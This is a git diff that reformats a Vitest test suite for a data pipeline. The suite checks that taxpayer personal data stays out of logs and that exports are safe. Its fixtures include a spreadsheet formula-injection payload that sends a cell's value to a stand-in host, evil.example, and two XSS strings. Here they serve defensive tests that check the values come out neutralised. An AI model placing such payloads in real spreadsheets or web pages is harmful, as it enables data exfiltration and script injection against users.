@@ -7,7 +7,16 @@
  * - formula text is neutralised in cases.csv / cases.xlsx; report.html carries injected HTML
  *   only as escaped JSON data.
  */
-import { existsSync, mkdirSync, readdirSync, readFileSync, readlinkSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  readlinkSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { join } from 'node:path';
 import ExcelJS from 'exceljs';
 import { beforeAll, describe, expect, it } from 'vitest';
@@ -21,7 +30,12 @@ import { findPii, worldPii, type WorldPii } from './world-pii.js';
 import { readZip, xlsxXml } from './zip.js';
 
 /** Text a hostile or careless delivery could put in a name or an address. */
-const formulas = ['=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")', '+1 Nguyễn Văn Công', '-2+3 Trần Thị Bình', '@SUM(A1:A9) Lê Văn Đạt'];
+const formulas = [
+  '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")',
+  '+1 Nguyễn Văn Công',
+  '-2+3 Trần Thị Bình',
+  '@SUM(A1:A9) Lê Văn Đạt',
+];
 const markup = ['<script>alert(1)</script> Phạm Minh Tú', '"><img src=x onerror=alert(1)> Đỗ Thu Hà'];
 const payloads = [...formulas, ...markup];
 
@@ -31,7 +45,10 @@ const csvField = (v: string) => `"${v.replaceAll('"', '""')}"`;
 function rewriteCsv(path: string, change: (r: Record<string, string>, i: number) => void): void {
   const { header, records } = readCsv(path);
   records.forEach(change);
-  writeFileSync(path, [header.join(','), ...records.map((r) => header.map((h) => csvField(r[h] ?? '')).join(','))].join('\n') + '\n');
+  writeFileSync(
+    path,
+    [header.join(','), ...records.map((r) => header.map((h) => csvField(r[h] ?? '')).join(','))].join('\n') + '\n',
+  );
 }
 
 describe('personal data and safe outputs', () => {
@@ -80,7 +97,10 @@ describe('personal data and safe outputs', () => {
   describe('no personal data in what a run prints or logs', () => {
     const logsOf = (dir: string) =>
       existsSync(dir)
-        ? readdirSync(dir, { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.log')).map((f) => readFileSync(join(dir, f), 'utf8')).join('\n')
+        ? readdirSync(dir, { recursive: true, encoding: 'utf8' })
+            .filter((f) => f.endsWith('.log'))
+            .map((f) => readFileSync(join(dir, f), 'utf8'))
+            .join('\n')
         : '';
 
     it('a successful run: stderr, stdout and any log file in the workspace', () => {
@@ -105,14 +125,28 @@ describe('personal data and safe outputs', () => {
           const d = join(dir, 'broken');
           mkdirSync(d);
           const taxpayers = readFileSync(join(world, 'taxpayers.csv'), 'utf8');
-          writeFileSync(join(d, 'taxpayers.csv'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(taxpayers, 'utf16le')]));
+          writeFileSync(
+            join(d, 'taxpayers.csv'),
+            Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(taxpayers, 'utf16le')]),
+          );
           const sellers = readFileSync(join(world, 'platform_sellers.csv'));
-          writeFileSync(join(d, 'platform_sellers.csv'), Buffer.concat([sellers.subarray(0, 4000), Buffer.from([0, 0xc3, 0x28, 0xff, 0xfe, 0]), sellers.subarray(4000, 9000)]));
-          writeFileSync(join(d, 'cod_shipments_ghn.csv'), readFileSync(join(world, 'cod_shipments_ghn.csv'), 'utf8').replaceAll(',', '","').slice(0, 5000));
+          writeFileSync(
+            join(d, 'platform_sellers.csv'),
+            Buffer.concat([
+              sellers.subarray(0, 4000),
+              Buffer.from([0, 0xc3, 0x28, 0xff, 0xfe, 0]),
+              sellers.subarray(4000, 9000),
+            ]),
+          );
+          writeFileSync(
+            join(d, 'cod_shipments_ghn.csv'),
+            readFileSync(join(world, 'cod_shipments_ghn.csv'), 'utf8').replaceAll(',', '","').slice(0, 5000),
+          );
           return ['--input', d];
         },
         // The registry cannot be read: a source the scores need, so the run stops after the load and keeps its diagnostics.
-        message: /could not be loaded, so nothing was published: taxpayers\.csv \(.*UTF-16.* — rejects and diagnostics kept in .*\/failed\//,
+        message:
+          /could not be loaded, so nothing was published: taxpayers\.csv \(.*UTF-16.* — rejects and diagnostics kept in .*\/failed\//,
       },
       {
         name: 'a file that vanished while the delivery was read (dangling link)',
@@ -134,7 +168,8 @@ describe('personal data and safe outputs', () => {
       expect(findPii(r.stderr, pii)).toEqual([]);
       expect(findPii(r.stdout, pii)).toEqual([]);
       expect(findPii(logsOf(wsFail), pii)).toEqual([]);
-      for (const e of existsSync(wsFail) ? treeModes(wsFail) : []) if (e.kind !== 'link') expect(e.mode & 0o077, e.path).toBe(0);
+      for (const e of existsSync(wsFail) ? treeModes(wsFail) : [])
+        if (e.kind !== 'link') expect(e.mode & 0o077, e.path).toBe(0);
       // A run that got as far as its own id leaves a run_failed line (a bad config fails before).
       if (existsSync(auditPath(wsFail))) expect(readAudit(wsFail).map((e) => e.action)).toEqual(['run_failed']);
     });
@@ -145,9 +180,17 @@ describe('personal data and safe outputs', () => {
     const runs = events.filter((e) => e.action === 'run');
     expect(runs).toHaveLength(1);
     const casesCsv = readFileSync(join(ws, 'latest', 'cases.csv'), 'utf8');
-    expect(runs[0]).toMatchObject({ run_id: readlinkSync(join(ws, 'latest')).split('/').pop(), pid: expect.any(Number), user: expect.any(String) });
+    expect(runs[0]).toMatchObject({
+      run_id: readlinkSync(join(ws, 'latest')).split('/').pop(),
+      pid: expect.any(Number),
+      user: expect.any(String),
+    });
     expect(runs[0]!.rows.cases).toBe(casesCsv.trim().split('\n').length - 1);
-    expect(runs[0]!.rows.members).toBe(readFileSync(join(ws, 'latest', 'members.csv'), 'utf8').trim().split('\n').length - 1);
+    expect(runs[0]!.rows.members).toBe(
+      readFileSync(join(ws, 'latest', 'members.csv'), 'utf8')
+        .trim()
+        .split('\n').length - 1,
+    );
     expect(runs[0]!.rows).toHaveProperty('rejects');
     expect(statSync(auditPath(ws)).mode & 0o777).toBe(0o600);
     expect(findPii(readFileSync(auditPath(ws), 'utf8'), pii)).toEqual([]);
@@ -195,14 +238,22 @@ describe('personal data and safe outputs', () => {
     });
 
     it('the xlsx reader sees the parts it scans', () => {
-      expect([...readZip(join(wsMasked, 'latest', 'cases.xlsx')).keys()].some((n) => n.startsWith('xl/worksheets/'))).toBe(true);
+      expect(
+        [...readZip(join(wsMasked, 'latest', 'cases.xlsx')).keys()].some((n) => n.startsWith('xl/worksheets/')),
+      ).toBe(true);
     });
   });
 
   describe('safe outputs', () => {
     const casesOf = () => {
-      const [header, ...rows] = parseCsv(readFileSync(join(ws, 'latest', 'cases.csv'), 'utf8').replace(/^\ufeff/, '').replace(/\r\n/g, '\n'));
-      return rows.filter((r) => r.length === header!.length).map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
+      const [header, ...rows] = parseCsv(
+        readFileSync(join(ws, 'latest', 'cases.csv'), 'utf8')
+          .replace(/^\ufeff/, '')
+          .replace(/\r\n/g, '\n'),
+      );
+      return rows
+        .filter((r) => r.length === header!.length)
+        .map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
     };
 
     it('formula text in names reaches cases.csv neutralised (a leading apostrophe), never live', () => {
@@ -213,7 +264,9 @@ describe('personal data and safe outputs', () => {
         expect(hit.length, f).toBeGreaterThan(0);
         for (const n of hit) expect(n.startsWith("'"), n).toBe(true);
       }
-      for (const c of cases) for (const [col, v] of Object.entries(c)) expect(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/.test(v), `${col}: ${v}`).toBe(false);
+      for (const c of cases)
+        for (const [col, v] of Object.entries(c))
+          expect(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/.test(v), `${col}: ${v}`).toBe(false);
     });
 
     it('cases.xlsx holds no formula cell and the injected names as neutralised text', async () => {
@@ -254,7 +307,10 @@ describe('personal data and safe outputs', () => {
       for (const n of hostile) expect(data).toContain(JSON.stringify(n).slice(1, -1));
       for (const p of markup) {
         const tag = p.slice(0, p.lastIndexOf('>') + 1).toLowerCase();
-        expect(hostile.some((n) => n.toLowerCase().includes(tag)), `${p} in ${JSON.stringify(hostile)}`).toBe(true);
+        expect(
+          hostile.some((n) => n.toLowerCase().includes(tag)),
+          `${p} in ${JSON.stringify(hostile)}`,
+        ).toBe(true);
       }
     });
   });
